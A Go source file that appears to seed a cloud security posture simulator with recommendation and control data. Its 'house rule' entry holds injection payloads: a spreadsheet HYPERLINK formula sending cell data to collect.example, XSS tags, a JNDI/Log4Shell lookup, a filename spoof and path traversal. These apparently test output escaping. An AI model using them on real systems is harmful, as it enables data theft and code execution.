package simulator

import (
	"strings"

	"watchfloor/integrations/simulator/story"
)

// matter is what kind of thing a recommendation looks at.
type matter uint8

const (
	aMachine matter = iota
	aLocalMachine
	aStorage
	aDatabase
	aVault
	aWebApp
	aCluster
	aSubnet
	aGateway
	aBucket // in another company's cloud
	aSubscription
)

// advice is a recommendation: an assessment's metadata. Its name at the service is
// guidOf its key, the same in every tenant, as with the built-in ones.
type advice struct {
	key, title, about, fix string
	on                     matter
	severity               string
	categories, threats    string // words of the service, separated by blanks
	effort, impact         string
	preview                bool
	findings               bool   // it has sub-assessments
	custom                 bool   // CustomerManaged
	risk                   string // of an unhealthy resource: what the newer model says
	factors                string // separated by commas
	rarely                 int    // percent of resources that are unhealthy at first
}

// shield is a control of the classic score.
type shield struct {
	key, title, about string
	max               int
	advices           []string // keys
	// ends is the day from which the service lists it no more, 0 never.
	ends int
}

func guidOf(key string) string { return story.GUID(0xadf1ce, key) }

const (
	keyUpdates = "updates" // what the drop of the past is about
	keyPorts   = "ports"   // and the one to come
)

var advices = []advice{
	{
		key: keyUpdates, title: "System updates should be installed on your machines", about: "Packages with known flaws are installed on the machine and newer ones exist.",
		fix: "Install the missing updates in the next maintenance window.\n1. Open the machine.\n2. Choose <b>Updates</b>.\n3. Install what is marked as security.", on: aMachine, severity: "High", categories: "Compute",
		threats: "dataExfiltration elevationOfPrivilege", effort: "Moderate", impact: "Moderate", findings: true, risk: "High", factors: "Vulnerabilities,Internet exposure",
	},
	{
		key: "assessment agent", title: "Machines should have a vulnerability assessment solution", about: "Nothing looks for known flaws on the machine.", fix: "Switch on the scanner of the plan for servers.",
		on: aMachine, severity: "Medium", categories: "Compute", threats: "dataExfiltration", effort: "Low", impact: "Low", risk: "Medium", rarely: 18,
	},
	{
		key: "endpoint protection", title: "Endpoint protection should be installed on machines", about: "No endpoint protection reports from the machine.", fix: "Onboard the machine to the endpoint protection of your company.",
		on: aMachine, severity: "High", categories: "Compute", threats: "dataExfiltration dataSpillage maliciousInsider", effort: "Low", impact: "Low", risk: "High", factors: "Internet exposure", rarely: 14,
	},
	{
		key: "endpoint health", title: "Endpoint protection health issues should be resolved on machines", about: "Endpoint protection is installed and has stopped or is out of date.", fix: "Restart the sensor and renew its signatures.",
		on: aMachine, severity: "Medium", categories: "Compute", threats: "missingCoverage", effort: "Moderate", impact: "Low", risk: "Medium", rarely: 12,
	},
	{
		key: "disk encryption", title: "Virtual machines should encrypt temp disks, caches, and data flows between Compute and Storage resources", about: "Temporary disks and caches are written in clear.",
		fix: "Enable encryption at host; the machine has to be stopped for it.", on: aMachine, severity: "High", categories: "Compute", threats: "dataExfiltration dataSpillage", effort: "High", impact: "High", risk: "Medium", factors: "Sensitive data", rarely: 35,
	},
	{
		key: "baseline", title: "Vulnerabilities in security configuration on your machines should be remediated", about: "Settings of the operating system differ from the baseline.", fix: "Apply the baseline by policy and check the exceptions.",
		on: aMachine, severity: "Low", categories: "Compute", threats: "dataExfiltration accountBreach", effort: "Moderate", impact: "Moderate", findings: true, risk: "Low", rarely: 45,
	},
	{
		key: keyPorts, title: "Management ports should be closed on your virtual machines", about: "A port for remote management is open to every address.", fix: "Limit the rule of the network security group to the addresses of your administrators.",
		on: aMachine, severity: "Medium", categories: "Networking", threats: "accountBreach", effort: "Low", impact: "Moderate", risk: "Critical", factors: "Internet exposure,Lateral movement",
	},
	{
		key: "just in time", title: "Management ports of virtual machines should be protected with just-in-time network access control", about: "Ports for remote management stay open while nobody uses them.", fix: "Enable just-in-time access and tell the administrators how to ask for it.",
		on: aMachine, severity: "High", categories: "Networking", threats: "accountBreach maliciousInsider", effort: "Low", impact: "High", risk: "High", factors: "Internet exposure", rarely: 25,
	},
	{
		key: "internet facing", title: "Internet-facing virtual machines should be protected with network security groups", about: "The machine has a public address and no network security group.", fix: "Put a network security group on its subnet or interface.",
		on: aMachine, severity: "High", categories: "Networking", threats: "accountBreach dataExfiltration", effort: "Low", impact: "Moderate", risk: "Critical", factors: "Internet exposure", rarely: 9,
	},
	{
		key: "application control", title: "Adaptive application controls for defining safe applications should be enabled on your machines", about: "Any program may start on the machine.", fix: "Review the suggested list of programs and enable it in audit mode.",
		on: aMachine, severity: "High", categories: "Compute", threats: "maliciousInsider", effort: "High", impact: "Low", rarely: 60,
	},
	{
		key: "local updates", title: "Log Analytics agent should be installed on machines that are not in the cloud", about: "The machine in your own data centre reports nothing.", fix: "Install the agent or connect the machine.",
		on: aLocalMachine, severity: "Medium", categories: "Compute", threats: "missingCoverage", effort: "Low", impact: "Low", rarely: 40,
	},
	{
		key: "secure transfer", title: "Secure transfer to storage accounts should be enabled", about: "The account answers to requests without encryption.", fix: "Set <i>Secure transfer required</i>.",
		on: aStorage, severity: "High", categories: "Data", threats: "dataSpillage", effort: "Low", impact: "Low", risk: "High", factors: "Sensitive data", rarely: 15,
	},
	{
		key: "public blobs", title: "Storage account public access should be disallowed", about: "Containers of the account may be made readable for everybody.", fix: "Forbid public access at the account after a look at who uses it.",
		on: aStorage, severity: "Medium", categories: "Data", threats: "dataExfiltration", effort: "Low", impact: "High", risk: "High", factors: "Internet exposure,Sensitive data", rarely: 30,
	},
	{
		key: "storage network", title: "Storage accounts should restrict network access using virtual network rules", about: "The account is reachable from every network.", fix: "Add rules for the networks that need it and deny the rest.",
		on: aStorage, severity: "Medium", categories: "Data Networking", threats: "dataExfiltration", effort: "Moderate", impact: "High", risk: "Medium", rarely: 50,
	},
	{
		key: "sql findings", title: "SQL databases should have vulnerability findings resolved", about: "The scan of the database found settings that an attacker can use.", fix: "Resolve each finding or accept it as baseline.",
		on: aDatabase, severity: "High", categories: "Data", threats: "dataExfiltration elevationOfPrivilege", effort: "Moderate", impact: "Moderate", findings: true, risk: "High", factors: "Sensitive data", rarely: 40,
	},
	{
		key: "sql encryption", title: "Transparent Data Encryption on SQL databases should be enabled", about: "Files of the database are stored in clear.", fix: "Enable transparent data encryption.",
		on: aDatabase, severity: "Low", categories: "Data", threats: "dataExfiltration dataSpillage", effort: "Low", impact: "Low", risk: "Medium", factors: "Sensitive data", rarely: 10,
	},
	{
		key: "sql audit", title: "Auditing on SQL server should be enabled", about: "Nobody can say later who read what.", fix: "Send the audit log to the workspace of your company.",
		on: aDatabase, severity: "Low", categories: "Data", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 33,
	},
	{
		key: "vault purge", title: "Key vaults should have purge protection enabled", about: "A deleted vault can be destroyed before its keys are missed.", fix: "Enable purge protection; it cannot be switched off again.",
		on: aVault, severity: "Medium", categories: "Data", threats: "dataSpillage", effort: "Low", impact: "Low", risk: "Medium", rarely: 35,
	},
	{
		key: "vault firewall", title: "Firewall should be enabled on Key Vault", about: "The vault answers to every network.", fix: "Allow only the networks of its users.",
		on: aVault, severity: "Medium", categories: "Networking", threats: "dataExfiltration", effort: "Moderate", impact: "Moderate", risk: "High", factors: "Internet exposure", rarely: 28,
	},
	{
		key: "web https", title: "Web Application should only be accessible over HTTPS", about: "The site also answers without encryption.", fix: "Set <i>HTTPS only</i>.",
		on: aWebApp, severity: "Medium", categories: "AppServices", threats: "dataExfiltration", effort: "Low", impact: "Low", risk: "Medium", factors: "Internet exposure", rarely: 12,
	},
	{
		key: "web tls", title: "TLS should be updated to the latest version for web apps", about: "The site speaks versions of TLS that are known to be weak.", fix: "Raise the lowest version to 1.2 after a look at the clients.",
		on: aWebApp, severity: "High", categories: "AppServices", threats: "dataExfiltration", effort: "Low", impact: "Low", risk: "Medium", rarely: 22,
	},
	{
		key: "web identity", title: "Managed identity should be used in web apps", about: "The site keeps a secret to reach other services.", fix: "Assign an identity and take the secret away.",
		on: aWebApp, severity: "Medium", categories: "AppServices IdentityAndAccess", threats: "accountBreach", effort: "Moderate", impact: "Moderate", rarely: 45, preview: true,
	},
	{
		key: "images", title: "Container registry images should have vulnerability findings resolved", about: "Images that run here hold packages with known flaws.", fix: "Build the images again from a newer base.",
		on: aCluster, severity: "High", categories: "Container", threats: "dataExfiltration", effort: "Moderate", impact: "Low", findings: true, risk: "Critical", factors: "Vulnerabilities,Internet exposure", rarely: 55,
	},
	{
		key: "privileged", title: "Privileged containers should be avoided", about: "A container may do on its node whatever it likes.", fix: "Take the privilege from the pod's description.",
		on: aCluster, severity: "Medium", categories: "Container", threats: "elevationOfPrivilege", effort: "Moderate", impact: "Moderate", risk: "High", factors: "Lateral movement", rarely: 30,
	},
	{
		key: "cluster rbac", title: "Role-Based Access Control should be used on Kubernetes Services", about: "Whoever reaches the cluster may do everything in it.", fix: "Create the cluster anew with roles.",
		on: aCluster, severity: "High", categories: "Container IdentityAndAccess", threats: "elevationOfPrivilege", effort: "High", impact: "High", rarely: 8,
	},
	{
		key: "subnet group", title: "Subnets should be associated with a network security group", about: "Traffic to the subnet is not filtered.", fix: "Associate a network security group.",
		on: aSubnet, severity: "Low", categories: "Networking", threats: "accountBreach", effort: "Low", impact: "Moderate", rarely: 25,
	},
	{
		key: "ddos", title: "Azure DDoS Protection should be enabled", about: "The virtual network has only the basic protection.", fix: "Buy the plan and attach it to the network.",
		on: aSubnet, severity: "Medium", categories: "Networking", threats: "denialOfService", effort: "Moderate", impact: "Low", rarely: 70,
	},
	{
		key: "waf", title: "Web Application Firewall (WAF) should be enabled for Application Gateway", about: "Requests reach the sites behind the gateway unchecked.", fix: "Choose a tier with the firewall and start in detection mode.",
		on: aGateway, severity: "Low", categories: "Networking", threats: "dataExfiltration", effort: "Moderate", impact: "Moderate", risk: "High", factors: "Internet exposure", rarely: 50,
	},
	{
		key: "mfa owners", title: "Accounts with owner permissions on Azure resources should be MFA enabled", about: "An owner signs in with a password alone.", fix: "Require a second factor by Conditional Access.",
		on: aSubscription, severity: "High", categories: "IdentityAndAccess", threats: "accountBreach", effort: "Low", impact: "Low", risk: "Critical", factors: "Critical resource", rarely: 50,
	},
	{
		key: "guests", title: "Guest accounts with owner permissions on Azure resources should be removed", about: "Somebody from another company owns the subscription.", fix: "Remove the assignment after you asked who needs it.",
		on: aSubscription, severity: "High", categories: "IdentityAndAccess", threats: "accountBreach maliciousInsider", effort: "Low", impact: "High", risk: "High", rarely: 50,
	},
	{
		key: "owners", title: "A maximum of 3 owners should be designated for subscriptions", about: "Many people own the subscription.", fix: "Give smaller roles to those who need less.",
		on: aSubscription, severity: "High", categories: "IdentityAndAccess", threats: "elevationOfPrivilege", effort: "Low", impact: "High", rarely: 30,
	},
	{
		key: "contact mail", title: "Subscriptions should have a contact email address for security issues", about: "Nobody is told about alerts of the subscription.", fix: "Set the address in the settings of the subscription.",
		on: aSubscription, severity: "Low", categories: "IdentityAndAccess", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 30,
	},
	{
		key: "plan servers", title: "Microsoft Defender for Servers should be enabled", about: "Machines of the subscription are not watched.", fix: "Enable the plan.",
		on: aSubscription, severity: "High", categories: "Compute", threats: "missingCoverage", effort: "Low", impact: "Low", rarely: 25,
	},
	{
		key: "bucket public", title: "S3 buckets should block public access", about: "Objects of the bucket may be made readable for everybody.", fix: "Block public access for the whole account of the other cloud.",
		on: aBucket, severity: "High", categories: "Data", threats: "dataExfiltration", effort: "Low", impact: "Moderate", risk: "Critical", factors: "Internet exposure,Sensitive data", rarely: 40,
	},
	{
		key: "bucket log", title: "Access to buckets should be logged", about: "Nobody can say later who read what.", fix: "Send the log of the bucket to an account of its own.",
		on: aBucket, severity: "Low", categories: "Data", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 50,
	},
	{
		key: "foreign words", title: "診断ログを有効にする必要があります", about: "ログは調査に必要です。", fix: "設定で有効にします。",
		on: aVault, severity: "Low", categories: "Data", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 40,
	},
	{
		key: "house rule", title: "=HYPERLINK(\"http://collect.example/?x=\"&A1,\"open\") <script>alert('advice')</script> \u202egnp.exe\u202c",
		about: "Somebody of the tenant wrote this rule.\n[Click here](http://collect.example/steal) %s%n ${jndi:ldap://collect.example/a}", fix: "<img src=x onerror=alert(1)> C:\\Windows\\..\\..\\etc",
		on: aStorage, severity: "Medium", categories: "Data", threats: "dataSpillage", effort: "Low", impact: "Low", custom: true, rarely: 50,
	},
}

var shields = []shield{
	{"mfa", "Enable MFA", "Accounts with power over resources sign in with a second factor.", 10, []string{"mfa owners"}, 0},
	{"ports", "Secure management ports", "Ports for remote management are attacked first.", 8, []string{keyPorts, "just in time"}, 0},
	{"updates", "Apply system updates", "Known flaws are closed by updates.", 6, []string{keyUpdates}, 0},
	{"vulnerabilities", "Remediate vulnerabilities", "What a scan finds is resolved.", 6, []string{"assessment agent", "sql findings", "images"}, 0},
	{"encrypt transit", "Encrypt data in transit", "Nobody reads along on the way.", 4, []string{"secure transfer", "web https", "web tls"}, 0},
	{"access", "Manage access and permissions", "People have as much power as their work takes.", 4, []string{"guests", "owners", "cluster rbac", "privileged", "web identity"}, 0},
	{"network", "Restrict unauthorized network access", "Networks let in only what they know.", 4, []string{"internet facing", "storage network", "vault firewall", "subnet group", "bucket public"}, 0},
	{"encrypt rest", "Enable encryption at rest", "Stolen disks tell nothing.", 4, []string{"disk encryption", "sql encryption"}, 0},
	{"configuration", "Remediate security configurations", "Settings follow a baseline.", 4, []string{"baseline", "house rule"}, 0},
	{"application control", "Apply adaptive application control", "Only known programs start.", 3, []string{"application control"}, 7},
	{"endpoint", "Enable endpoint protection", "Malware is seen and stopped on the machine.", 2, []string{"endpoint protection", "endpoint health"}, 0},
	{"ddos", "Protect applications against DDoS attacks", "Sites stay reachable under load.", 2, []string{"ddos", "waf"}, 0},
	{"audit", "Enable auditing and logging", "What happened can be told later.", 1, []string{"sql audit", "local updates", "foreign words", "bucket log"}, 0},
	{"enhanced", "Enable enhanced security features", "Resources are watched by the plans made for them.", 0, []string{"plan servers", "contact mail", "public blobs", "vault purge"}, 0},
}

// adviceNames are the names of advices at the service.
var adviceNames = func() (out []string) {
	for _, x := range advices {
		out = append(out, guidOf(x.key))
	}
	return out
}()

// guarding is the control of an advice, by their places in the catalogue.
var guarding = func() []int {
	out := make([]int, len(advices))
	for a := range advices {
		out[a] = -1
		for c, x := range shields {
			if wordIn(x.advices, advices[a].key) >= 0 {
				out[a] = c
			}
		}
	}
	return out
}()

// adviceBy finds an advice by its name at the service or its key, ignoring case.
func adviceBy(name string) (int, bool) {
	for i := range advices {
		if strings.EqualFold(adviceNames[i], name) || advices[i].key == name {
			return i, true
		}
	}
	return 0, false
}
